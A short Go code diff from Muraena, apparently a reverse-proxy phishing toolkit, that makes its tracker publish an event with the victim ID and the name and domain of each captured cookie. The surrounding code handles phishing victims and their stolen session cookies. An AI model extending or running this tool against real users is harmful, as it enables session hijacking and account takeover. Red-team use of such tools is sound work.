@@ -12,6 +12,7 @@ import (
 
 	"github.com/muraenateam/muraena/core/db"
 	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
 )
 
 func (module *Tracker) GetVictim(t *Trace) (v *db.Victim, err error) {
@@ -144,5 +145,11 @@ func (module *Tracker) PushCookie(victim *db.Victim, cookie db.VictimCookie) {
 		return
 	}
 
+	session.Publish(session.Event{
+		Type:   session.EventCookie,
+		Victim: victim.ID,
+		Data:   map[string]string{"name": cookie.Name, "domain": cookie.Domain},
+	})
+
 	module.Verbose("[%s][+] cookie: %s (%s)", victim.ID, tui.Bold(tui.Green(cookie.Name)), tui.Bold(tui.Green(cookie.Domain)))
 }